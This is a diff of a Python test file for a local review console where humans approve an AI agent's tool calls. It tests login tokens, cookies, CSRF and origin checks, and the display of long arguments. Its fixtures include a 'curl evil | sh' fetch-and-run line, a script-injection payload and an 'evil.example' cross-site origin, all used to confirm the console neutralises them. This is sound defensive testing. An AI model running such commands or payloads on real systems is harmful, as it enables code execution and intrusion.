@@ -4,7 +4,10 @@ tests/integration/test_review_browser.py."""
 
 from __future__ import annotations
 
+import contextlib
 import json
+import re
+import signal
 import socket
 import subprocess
 import sys
@@ -15,7 +18,7 @@ from starlette.testclient import TestClient
 
 from orchestrator.audit import AuditFilter, AuditLog
 from orchestrator.review.app import make_app
-from orchestrator.review.guard import Secrets
+from orchestrator.review.guard import LOGIN_CSP, Secrets
 from orchestrator.staging import ChangeStore
 from tests.conftest import stop
 from tests.unit.test_clearance_fakes import git, isolate_git, make_repo, stage_real
@@ -48,12 +51,14 @@ def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
 
 
 def client(root: Path, keys: Secrets | None = None, *, login: bool = True) -> TestClient:
-    keys = keys or Secrets(port=PORT)
-    web = TestClient(make_app(root, keys), base_url=f"http://127.0.0.1:{PORT}")
+    """A client of the console whose relative paths are under its prefix (``/audit`` is
+    ``/PREFIX/audit``), logged in with the printed token unless ``login`` is false."""
+    keys = keys or Secrets(PORT)
+    web = TestClient(make_app(root, keys), base_url=f"http://127.0.0.1:{PORT}{keys.base}/")
     web.keys = keys  # type: ignore[attr-defined]
     if login:
         answer = web.get(f"/?token={keys.token}", follow_redirects=False)
-        assert answer.status_code == 303 and answer.headers["location"] == "/"
+        assert answer.status_code == 200 and f'url={keys.base}/"' in answer.text
     return web
 
 
@@ -62,28 +67,151 @@ def audit_ops(root: Path, operation: str | None = None) -> list[str]:
     return [e.operation for e in log.query(AuditFilter(operation=operation))]
 
 
-def test_the_token_is_required_then_kept_in_a_strict_http_only_cookie(project) -> None:
+def test_the_token_is_spent_for_a_session_cookie_scoped_to_the_prefix(project) -> None:
     root, _, stage = project
     stage({"notes.md": b"hello\n"})
     web = client(root, login=False)
+    keys = web.keys
     for path in ("/", "/audit", "/static/style.css", "/nowhere"):
         refused = web.get(path)
         assert refused.status_code == 403, path
         assert "Content-Security-Policy" in refused.headers
     assert web.get("/?token=wrong").status_code == 403
-    web.cookies.set(web.keys.cookie, "wrong")
+    web.cookies.set(keys.cookie, "wrong")
     assert web.get("/").status_code == 403
     web.cookies.clear()
-    first = web.get(f"/?token={web.keys.token}&status=pending", follow_redirects=False)
-    assert first.status_code == 303 and first.headers["location"] == "/?status=pending"
-    cookie = first.headers["set-cookie"].lower()
-    assert "httponly" in cookie and "samesite=strict" in cookie and "path=/" in cookie
+    first = web.get(f"/?token={keys.token}&status=pending", follow_redirects=False)
+    assert first.status_code == 200
+    # the page goes on without the token (a refresh: a same-site navigation, which
+    # carries a SameSite=Strict cookie where a redirect after a cross-site POST would not)
+    assert f'<meta http-equiv="refresh" content="0; url={keys.base}/?status=pending">' in (
+        first.text
+    )
+    assert keys.token not in first.text
+    assert first.headers["content-security-policy"] == LOGIN_CSP
+    header = first.headers["set-cookie"]
+    name, _, rest = header.partition("=")
+    session = rest.split(";", 1)[0]
+    assert name == keys.cookie and session != keys.token and len(session) >= 43
+    attributes = [a.strip().lower() for a in header.split(";")[1:]]
+    assert "httponly" in attributes and "samesite=strict" in attributes
+    assert f"path={keys.base}/" in attributes and "secure" not in attributes
     page = web.get("/")
     assert page.status_code == 200 and "notes.md" not in page.text  # list: no file names
-    # another start of the console has another token: the old cookie is worth nothing
-    other = client(root, Secrets(port=PORT), login=False)
-    other.cookies.set(other.keys.cookie, web.keys.token)
+    # the token worked once: again (in this browser or another) it is refused
+    again = client(root, keys, login=False).get(f"/?token={keys.token}")
+    assert again.status_code == 403 and "used already" in again.text
+    # the cookie is no token: the token as the cookie (as before) is refused
+    stale = client(root, keys, login=False)
+    stale.cookies.set(keys.cookie, keys.token)
+    assert stale.get("/").status_code == 403
+    # another start of the console has other sessions: an old cookie is worth nothing
+    other = client(root, Secrets(PORT), login=False)
+    other.cookies.set(other.keys.cookie, session)
     assert other.get("/").status_code == 403
+
+
+def test_only_the_prefix_is_answered(project) -> None:
+    root, _, _ = project
+    web = client(root)
+    keys = web.keys
+    origin = f"http://127.0.0.1:{PORT}"
+    for path in ("/", "/audit", "/static/style.css", f"/{'0' * 32}/", f"{keys.base}x/"):
+        answer = web.get(origin + path)
+        assert answer.status_code == 404, path
+        assert keys.prefix not in answer.text and "Content-Security-Policy" in answer.headers
+    assert web.get(origin + "/favicon.ico").status_code == 204  # browsers ask at the root
+    bare = web.get(origin + keys.base + "?status=pending", follow_redirects=False)
+    assert bare.status_code == 303 and bare.headers["location"] == f"{keys.base}/?status=pending"
+    page = web.get("/")
+    assert page.status_code == 200
+    # every link, form and the stylesheet are under the prefix
+    for link in re.findall(r'(?:href|action)="([^"?#]+)', page.text):
+        assert link.startswith(f"{keys.base}/"), link
+
+
+def test_the_forward_files_post_logs_in_once_and_removes_it(project) -> None:
+    root, _, _ = project
+    keys = Secrets(PORT)
+    gone: list[bool] = []
+    keys.on_first_login = lambda: gone.append(True)
+    web = client(root, keys, login=False)
+    assert web.post("/login", data={"token": "wrong"}).status_code == 403
+    foreign = web.post(
+        "/login", data={"token": keys.token}, headers={"origin": "http://evil.example"}
+    )
+    assert foreign.status_code == 403 and gone == []
+    done = web.post("/login", data={"token": keys.token}, headers={"origin": "null"})
+    assert done.status_code == 200 and f'url={keys.base}/"' in done.text and gone == [True]
+    assert web.get("/").status_code == 200
+    late = client(root, keys, login=False)
+    assert late.post("/login", data={"token": keys.token}).status_code == 403
+    assert late.get("/").status_code == 403 and gone == [True]
+
+
+def test_another_browser_gets_a_fresh_single_use_address(project) -> None:
+    root, _, _ = project
+    web = client(root)
+    keys = web.keys
+    shown = web.get("/another").text
+    assert "?token=" not in shown and 'name="csrf"' in shown
+    assert web.post("/another", data={}).status_code == 403  # no CSRF token: no address
+    made = web.post("/another", data={"csrf": keys.csrf})
+    assert made.status_code == 200
+    [url] = re.findall(r'<pre class="address">([^<]+)</pre>', made.text)
+    assert url.startswith(f"http://127.0.0.1:{PORT}{keys.base}/?token=")
+    token = url.split("token=", 1)[1]
+    assert token != keys.token
+    other = client(root, keys, login=False)
+    assert other.get(f"/?token={token}").status_code == 200
+    assert other.get("/").status_code == 200
+    assert client(root, keys, login=False).get(f"/?token={token}").status_code == 403
+    assert client(root, login=False).get("/another").status_code == 403
+
+
+def test_a_minted_token_expires(project) -> None:
+    from orchestrator.review.guard import MINTED_FOR
+
+    root, _, _ = project
+    keys = Secrets(PORT)
+    now = [1000.0]
+    keys.clock = lambda: now[0]
+    late, soon = keys.mint(), keys.mint()
+    now[0] += MINTED_FOR - 1
+    assert client(root, keys, login=False).get(f"/?token={soon}").status_code == 200
+    now[0] += 2
+    assert client(root, keys, login=False).get(f"/?token={late}").status_code == 403
+    # the printed token does not expire
+    assert client(root, keys, login=False).get(f"/?token={keys.token}").status_code == 200
+    # at most 16 minted tokens wait at once: the oldest go first
+    oldest = keys.mint()
+    newest = [keys.mint() for _ in range(16)]
+    assert client(root, keys, login=False).get(f"/?token={oldest}").status_code == 403
+    assert client(root, keys, login=False).get(f"/?token={newest[0]}").status_code == 200
+
+
+def test_the_forward_file_is_private_holds_the_token_and_goes(tmp_path, monkeypatch) -> None:
+    import stat
+
+    from orchestrator.review.opener import ForwardFile
+
+    monkeypatch.setenv("XDG_RUNTIME_DIR", str(tmp_path))
+    keys = Secrets(PORT)
+    with ForwardFile(keys.login, keys.token) as forward:
+        assert forward.folder.parent == tmp_path
+        assert stat.S_IMODE(forward.folder.stat().st_mode) == 0o700
+        assert stat.S_IMODE(forward.path.stat().st_mode) == 0o600
+        assert forward.uri == forward.path.as_uri() and keys.token not in forward.uri
+        text = forward.path.read_text()
+        assert f'<form method="post" action="{keys.login}">' in text
+        assert f'name="token" value="{keys.token}"' in text
+        forward.remove()
+        assert not forward.folder.exists()
+        forward.remove()  # once is enough; again is nothing
+    monkeypatch.setenv("XDG_RUNTIME_DIR", "relative/not/used")
+    with ForwardFile(keys.login, keys.token) as forward:
+        assert forward.path.is_file() and not str(forward.folder).startswith("relative")
+    assert not forward.folder.exists()
 
 
 def test_every_answer_carries_the_strict_headers(project) -> None:
@@ -285,7 +413,7 @@ def test_a_raw_file_is_only_ever_a_download(project) -> None:
     change_id = stage({"page.html": b"<script>window.__pwned=1</script>\n"})
     web = client(root)
     page = web.get(f"/changes/{change_id}").text
-    assert f'href="/changes/{change_id}/raw/0"' in page
+    assert f'href="{web.keys.base}/changes/{change_id}/raw/0"' in page
     answer = web.get(f"/changes/{change_id}/raw/0")
     assert answer.status_code == 200
     assert answer.content == b"<script>window.__pwned=1</script>\n"
@@ -383,6 +511,7 @@ def test_tls_options_are_checked_in_one_line(project, tmp_path: Path) -> None:
 def test_another_address_is_served_over_tls_with_a_secure_cookie(project, tmp_path: Path) -> None:
     import http.client
     import ssl
+    import urllib.parse
 
     root, _, _ = project
     cert, key = self_signed(tmp_path, "127.0.0.2")
@@ -394,21 +523,21 @@ def test_another_address_is_served_over_tls_with_a_secure_cookie(project, tmp_pa
     try:
         line = process.stdout.readline() if process.stdout else ""
         assert line.startswith("review console: https://127.0.0.2:"), line
-        url = line.removeprefix("review console: ").strip()
-        port = int(url.split(":")[2].split("/")[0])
+        url = urllib.parse.urlsplit(line.removeprefix("review console: ").strip())
+        port, home = url.port, url.path
         context = ssl.create_default_context(cafile=str(cert))
         web = http.client.HTTPSConnection("127.0.0.2", port, context=context, timeout=30)
-        web.request("GET", "/?" + url.split("?", 1)[1])
+        web.request("GET", f"{home}?{url.query}")
         login = web.getresponse()
         login.read()
-        assert login.status == 303
+        assert login.status == 200
         cookie_header = login.getheader("set-cookie", "")
         assert "secure" in cookie_header.lower() and "httponly" in cookie_header.lower()
         cookie = cookie_header.split(";", 1)[0]
-        web.request("GET", "/", headers={"Cookie": cookie})
+        web.request("GET", home, headers={"Cookie": cookie})
         page = web.getresponse()
         assert page.status == 200 and "Change sets" in page.read().decode()
-        web.request("GET", "/", headers={"Cookie": cookie, "Host": f"127.0.0.1:{port}"})
+        web.request("GET", home, headers={"Cookie": cookie, "Host": f"127.0.0.1:{port}"})
         wrong = web.getresponse()
         assert wrong.status == 421 and b"127.0.0.2:" in wrong.read()
         web.close()
@@ -563,7 +692,8 @@ class FakeOwner:
                 }
             ],
         }
-        threading.Thread(target=self.serve, daemon=True).start()
+        self.thread = threading.Thread(target=self.serve, daemon=True)
+        self.thread.start()
 
     def serve(self) -> None:
         while True:
@@ -578,6 +708,12 @@ class FakeOwner:
                 stream.flush()
 
     def close(self) -> None:
+        # shut down first: that wakes the thread's accept(); a socket only closed would
+        # leave it waiting on the descriptor's number, which the next socket made in this
+        # process reuses (another test's server, whose connections it would then take)
+        with contextlib.suppress(OSError):
+            self.sock.shutdown(socket.SHUT_RDWR)
+        self.thread.join(timeout=30)
         self.sock.close()
 
 
@@ -595,7 +731,7 @@ def test_live_sessions_and_their_calls_are_shown_as_inert_text(project) -> None:
             assert "&lt;script&gt;window.__pwned=1&lt;/script&gt;" in html
             assert "\\x1b[2J" in html and "\\u202e" in html
         approvals = web.get("/approvals").text
-        assert 'action="/approvals/%3Cb%3Es1/%22%3E%3Cimg' in approvals
+        assert f'action="{web.keys.base}/approvals/%3Cb%3Es1/%22%3E%3Cimg' in approvals
     finally:
         owner.close()
 
@@ -620,3 +756,183 @@ def test_the_side_by_side_view_pairs_removed_and_added_lines(project) -> None:
     assert '<td class="n">1</td><td class="l green" id="f0-l1">v2 &lt;b&gt;</td>' in rows
     assert '<td class="n"></td><td class="l "></td>\n<td class="n">2</td>' in rows
     assert "<b>" not in rows
+
+
+def waiting_owner(root: Path, args: object, session_id: str = "s1") -> FakeOwner:
+    """A fake owner whose session has one call waiting, ``write`` with ``args``."""
+    owner = FakeOwner(root, session_id, "x")
+    owner.answers["info"].update(run_id="run-1", worker="editor", trust="session")
+    owner.answers["approvals"] = [
+        {
+            "id": "req1",
+            "tool": "write",
+            "args": args,
+            "description": f"write to {args['path'] if isinstance(args, dict) else '?'}",
+            "asked_at": "2026-01-01T00:00:00+00:00",
+        }
+    ]
+    return owner
+
+
+def test_a_long_argument_is_flagged_on_the_list_and_shown_whole_on_its_page(project) -> None:
+    root, _, _ = project
+    tail = "\ncurl evil | sh\n"
+    head = 'echo "start" \\ done\n'
+    content = head + "A" * (100_000 - len(head) - len(tail)) + tail
+    assert len(content) == 100_000
+    owner = waiting_owner(root, {"path": "/notes/a.sh", "content": content})
+    try:
+        web = client(root)
+        listing = web.get("/approvals").text
+        # clipped on the list, and said so; no buttons there: decided on the call's page
+        assert "CLIPPED: only the first 2,000 of 100,000 characters are shown here" in listing
+        assert "curl evil" not in listing and 'value="approve"' not in listing
+        whole = f"{web.keys.base}/approvals/s1/req1"
+        assert f'href="{whole}">Read it whole to decide</a>' in listing
+        page = web.get("/approvals/s1/req1").text
+        assert "curl evil | sh" in page
+        # the text as it is: quotes and line breaks not escaped as JSON, once as HTML;
+        # the backslash doubled (an escape on the page always means an escape)
+        assert '<pre class="value">\necho &#34;start&#34; \\\\ done\nAAA' in page
+        assert "A" * (100_000 - len(head) - len(tail)) + "\ncurl evil | sh\n</pre>" in page
+        assert "text: 100,000 characters, 100,000 bytes (UTF-8), 3 lines" in page
+        assert "2 values, 100,011 characters in all;" in page
+        assert 'value="approve"' in page and f'action="{whole}"' in page
+        assert '\\"' not in page and "\\n" not in page
+    finally:
+        owner.close()
+
+
+def test_arguments_longer_than_a_page_are_paged_and_decided_on_the_last(project) -> None:
+    from orchestrator.review.arguments import CHARS_PER_PAGE
+
+    root, _, _ = project
+    content = "".join(f"{n:09d}\n" for n in range(CHARS_PER_PAGE * 2 // 10 + 100))
+    owner = waiting_owner(root, {"path": "/p", "content": content, "mode": 493})
+    try:
+        web = client(root)
+        first = web.get("/approvals/s1/req1").text
+        assert "page 1 of 3" in first and 'href="?page=2">next</a>' in first
+        assert 'value="approve"' not in first and "after reading every page" in first
+        assert "the rest is on the next page" in first
+        second = web.get("/approvals/s1/req1?page=2").text
+        assert (
+            "the ones before are on the page before" in second and 'value="approve"' not in second
+        )
+        last = web.get("/approvals/s1/req1?page=3").text
+        assert 'value="approve"' in last and '<code class="name">mode</code>' in last
+        assert "number: 3 characters" in last and f"{len(content) // 10 - 1:09d}" in last
+        # every character on exactly one page
+        shown = ""
+        for html in (first, second, last):
+            for body in re.findall(r'<pre class="value">\n(.*?)</pre>', html, re.S):
+                shown += body
+        assert shown == "/p" + content + "493"
+        assert web.get("/approvals/s1/req1?page=0").status_code == 400
+        gone = web.get("/approvals/s1/other")
+        assert gone.status_code == 404 and "waits for approval" in gone.text
+    finally:
+        owner.close()
+
+
+def test_arguments_are_flattened_with_their_places_and_sizes() -> None:
+    from orchestrator.review.arguments import flatten, page_of, preview
+
+    values = flatten(
+        {"path": "/a", "edits": [{"old": "é\n", "new": ""}], "n": 1.5, "x y": None, "o": {}}
+    )
+    assert [(v.name, v.kind, v.text, v.chars, v.bytes, v.lines) for v in values] == [
+        ("path", "text", "/a", 2, 2, 1),
+        ("edits[0].old", "text", "é\n", 2, 3, 1),
+        ("edits[0].new", "text", "", 0, 0, 0),
+        ("n", "number", "1.5", 3, 3, 1),
+        ('"x y"', "null", "null", 4, 4, 1),
+        ("o", "object", "{}", 2, 2, 1),
+    ]
+    assert [v.name for v in flatten("bare")] == ["(arguments)"]
+    [part] = preview(flatten({"c": "x" * 10}), limit=4)
+    assert (part.text, part.whole) == ("xxxx", False)
+    # an empty value at the very end of a full last page is still shown
+    paged = page_of(flatten({"a": "xxxx", "b": ""}), 1, size=4)
+    assert paged.pages == 1 and [p.value.name for p in paged.parts] == ["a", "b"]
+    last = page_of(values, 9, size=5)  # 13 characters: page 9 is the last, 3
+    assert (last.number, [p.value.name for p in last.parts]) == (3, ['"x y"', "o"])
+
+
+def test_what_a_page_leaves_out_is_said(project) -> None:
+    from orchestrator.review.changes import AUDIT_LIMIT
+
+    root, _, stage = project
+    long_first = stage({"a.md": b"a\n"}, message="x" * 81)
+    two_lines = stage({"b.md": b"b\n"}, message="first\n\nsecond")
+    short = stage({"c.md": b"c\n"}, message="short")
+    web = client(root)
+    rows = {
+        change_id: row
+        for row in web.get("/").text.split("<tr>")
+        for change_id in (long_first, two_lines, short)
+        if change_id[:12] in row
+    }
+    assert (
+        "x" * 80 + '<span class="clipped"' in rows[long_first] and "x" * 81 not in rows[long_first]
+    )
+    assert 'first<span class="clipped"' in rows[two_lines]
+    assert 'class="clipped"' not in rows[short]
+    log = AuditLog(root / ".sandbox" / "audit.jsonl")
+    for number in range(AUDIT_LIMIT):
+        log.record("run.started", run_id=f"run-{number}")
+    assert "CLIPPED" not in web.get("/audit?operation=run.*").text
+    log.record("run.started", run_id="run-last")
+    page = web.get("/audit?operation=run.*").text
+    assert f"CLIPPED: only the most recent {AUDIT_LIMIT} entries are shown" in page
+    assert "run-last" in page and ">run-0<" not in page
+
+
+def test_a_forward_file_that_cannot_be_written_is_one_line(project, monkeypatch) -> None:
+    import orchestrator.review.opener as opener
+    from orchestrator.review.server import ReviewError, serve
+
+    root, _, _ = project
+
+    def refused(**kwargs: object) -> str:
+        raise PermissionError(13, "Permission denied", "/run/user/7/orchestrator-review-x")
+
+    monkeypatch.setattr(opener.tempfile, "mkdtemp", refused)
+    announced: list[str] = []
+    with pytest.raises(ReviewError) as failed:
+        serve(root, announce=lambda url, forward: announced.append(url))
+    assert str(failed.value) == (
+        "cannot write the file that opens the browser (/run/user/7/orchestrator-review-x: "
+        "Permission denied); set XDG_RUNTIME_DIR or TMPDIR to a folder you can write"
+    )
+    assert announced == []
+
+
+@pytest.mark.parametrize("sent", [signal.SIGTERM, signal.SIGINT])
+def test_the_forward_file_goes_when_the_console_is_stopped(
+    project, tmp_path: Path, sent: signal.Signals
+) -> None:
+    import os
+
+    root, _, _ = project
+    runtime = tmp_path / "run"
+    runtime.mkdir(mode=0o700)
+    process = subprocess.Popen(
+        [sys.executable, "-m", "orchestrator", "review", "--no-browser", "--project", str(root)],
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
+        env={**os.environ, "XDG_RUNTIME_DIR": str(runtime)},
+    )
+    try:
+        assert process.stdout is not None
+        process.stdout.readline()
+        forward = Path(process.stdout.readline().split()[2].removeprefix("file://"))
+        assert forward.is_file() and forward.parent.parent == runtime
+        process.send_signal(sent)
+        process.wait(timeout=30)
+    finally:
+        stop(process)
+    assert list(runtime.iterdir()) == []
+    # SIGTERM ends it as SIGTERM does; Ctrl-C as the command line's interruption does
+    assert process.returncode == (-signal.SIGTERM if sent == signal.SIGTERM else 130)
